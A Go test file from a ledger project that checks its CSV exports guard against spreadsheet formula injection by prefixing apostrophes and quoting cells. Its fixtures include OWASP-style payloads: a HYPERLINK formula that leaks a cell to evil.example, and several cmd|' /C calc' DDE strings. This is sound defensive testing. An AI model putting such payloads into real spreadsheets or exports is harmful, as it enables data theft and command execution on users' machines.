package reports_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/razao/razao/internal/ledgertest"
	"github.com/razao/razao/postings"
	"github.com/razao/razao/reports"
)

// formulas are what a PSP or a user could put in an id or a description
// to have a spreadsheet run it: every prefix of OWASP's CSV injection list.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// TestCSVDefusesFormulasInEveryDialect: charge ids, refund ids and
// descriptions that start like a formula are prefixed with an apostrophe
// in the RFC 4180 export as in the Brazilian one, numbers (negative
// amounts too) are left as numbers, and the same data gives the same
// bytes.
func TestCSVDefusesFormulasInEveryDialect(t *testing.T) {
	t.Parallel()
	l, db := ledgertest.New(t)
	at := ledgertest.SaoPaulo(2026, 8, 10, 12, 0)
	for i, f := range formulas {
		charge := f + "#" + string(rune('a'+i)) // each its own charge
		s, err := postings.Sale(charge, "BRL", 10000, 0, at)
		s.Description = f
		ledgertest.Post(t, l, s, err)
		r, err := postings.Refund(charge, f, "BRL", 2500, at)
		r.Description = f
		ledgertest.Post(t, l, r, err)
	}
	for _, d := range []reports.Dialect{reports.RFC4180, reports.Brazil} {
		t.Run(d.String(), func(t *testing.T) {
			t.Parallel()
			out := exportCSV(t, db, reports.ExportJournal, aug2026, d)
			if again := exportCSV(t, db, reports.ExportJournal, aug2026, d); again != out {
				t.Fatal("the same month exported twice differs")
			}
			r := csv.NewReader(bytes.NewReader([]byte(strings.TrimPrefix(out, "\ufeff"))))
			r.Comma = ','
			if d == reports.Brazil {
				r.Comma = ';'
			}
			records, err := r.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			col := columnsOf(records[0])
			if len(records) != 1+4*len(formulas) {
				t.Fatalf("%d records, want header + %d", len(records), 4*len(formulas))
			}
			seen := map[string]int{}
			for _, rec := range records[1:] {
				for _, name := range []string{"charge_id", "refund_id", "description", "idempotency_key", "partner"} {
					v := rec[col[name]]
					if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
						t.Errorf("%s %q would run as a formula", name, v)
					}
					for _, f := range formulas {
						if strings.HasPrefix(v, "'"+f) {
							seen[name]++
						}
					}
				}
				// Numbers stay numbers: the credit of each set is negative.
				if a, c := rec[col["amount"]], rec[col["amount_centavos"]]; a != "-100.00" && a != "-100,00" && a != "-25.00" && a != "-25,00" &&
					a != "100.00" && a != "100,00" && a != "25.00" && a != "25,00" || strings.HasPrefix(c, "'") {
					t.Errorf("amount %q, centavos %q", a, c)
				}
			}
			// Every sale's two postings and every refund's two carry the
			// charge id and the description; the refund's, its refund id.
			for name, want := range map[string]int{"charge_id": 4 * len(formulas), "description": 4 * len(formulas), "refund_id": 2 * len(formulas)} {
				if seen[name] != want {
					t.Errorf("%d %s cells defused, want %d", seen[name], name, want)
				}
			}
		})
	}
}

// afterSeparator are ids and descriptions that start harmlessly but put a
// formula right after one dialect's separator (or a tab, a line break or a
// quote): a spreadsheet splitting on the other dialect's separator would
// otherwise see a cell starting with the formula.
var afterSeparator = []string{
	`rf1;=cmd|' /C calc'!A0`,
	`rf2,=cmd|' /C calc'!A0`,
	"rf3\t=1+1",
	"rf4\n+1+1", // not CR LF: encoding/csv reads a quoted CR LF back as LF
	"rf8\r@SUM(1+1)",
	`rf5"@SUM(1+1)`,
	`rf6;-2+3,+cmd|' /C calc'!A0`,
	`=rf7;@SUM(1+1)`,
}

// TestCSVQuotesCellsHoldingEitherSeparator: in both dialects a text cell
// holding ",", ";", a tab, CR, LF or a quote is quoted, so a spreadsheet
// splitting either file on "," or on ";" finds no unquoted piece that
// starts like a formula; each file still parses in its own dialect to the
// original values (the formula guard's apostrophe in front where the
// value itself starts like one), and the same data gives the same bytes.
func TestCSVQuotesCellsHoldingEitherSeparator(t *testing.T) {
	t.Parallel()
	l, db := ledgertest.New(t)
	at := ledgertest.SaoPaulo(2026, 8, 10, 12, 0)
	for i, f := range afterSeparator {
		charge := "c" + string(rune('a'+i)) + f
		s, err := postings.Sale(charge, "BRL", 10000, 0, at)
		s.Description = f
		ledgertest.Post(t, l, s, err)
		r, err := postings.Refund(charge, f, "BRL", 2500, at)
		r.Description = f
		ledgertest.Post(t, l, r, err)
	}
	guarded := func(v string) string {
		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
			return "'" + v
		}
		return v
	}
	for _, d := range []reports.Dialect{reports.RFC4180, reports.Brazil} {
		t.Run(d.String(), func(t *testing.T) {
			t.Parallel()
			out := exportCSV(t, db, reports.ExportJournal, aug2026, d)
			if again := exportCSV(t, db, reports.ExportJournal, aug2026, d); again != out {
				t.Fatal("the same month exported twice differs")
			}
			for _, sep := range []byte{',', ';'} {
				for _, piece := range naiveSplit(strings.TrimPrefix(out, "\ufeff"), sep) {
					if piece == "" || piece[0] == '"' || isNumber(piece) {
						continue
					}
					if strings.ContainsRune("=+-@\t\r", rune(piece[0])) {
						t.Errorf("split on %q: unquoted piece %q starts like a formula", sep, piece)
					}
				}
			}
			r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff")))
			if d == reports.Brazil {
				r.Comma = ';'
			}
			records, err := r.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			col := columnsOf(records[0])
			want := map[string]bool{}
			for _, f := range afterSeparator {
				want[guarded(f)] = true
			}
			seen := map[string]int{}
			for _, rec := range records[1:] {
				if v := rec[col["description"]]; want[v] {
					seen["description"]++
				} else {
					t.Errorf("description %q is none of the originals", v)
				}
				if v := rec[col["refund_id"]]; want[v] {
					seen["refund_id"]++
				} else if v != "" {
					t.Errorf("refund_id %q is none of the originals", v)
				}
			}
			if seen["description"] != 4*len(afterSeparator) || seen["refund_id"] != 2*len(afterSeparator) {
				t.Errorf("read back %v, want %d descriptions and %d refund ids", seen, 4*len(afterSeparator), 2*len(afterSeparator))
			}
		})
	}
}

// naiveSplit splits a file into cells on sep and CR LF, as a spreadsheet
// set to that separator would: a quoted cell is one cell whatever it holds
// (its quotes kept, so the caller can tell it was quoted).
func naiveSplit(s string, sep byte) []string {
	var pieces []string
	start, quoted := 0, false
	for i := 0; i < len(s); i++ {
		switch b := s[i]; {
		case b == '"':
			quoted = !quoted
		case quoted:
		case b == sep || b == '\n':
			pieces = append(pieces, strings.TrimSuffix(s[start:i], "\r"))
			start = i + 1
		}
	}
	return append(pieces, s[start:])
}

// isNumber: an amount, or the part of one a split on its decimal comma
// leaves (-25 of -25,00): numbers are never guarded, and a spreadsheet
// reads them as numbers.
func isNumber(s string) bool {
	s = strings.TrimPrefix(s, "-")
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if (s[i] < '0' || s[i] > '9') && s[i] != '.' && s[i] != ',' {
			return false
		}
	}
	return true
}
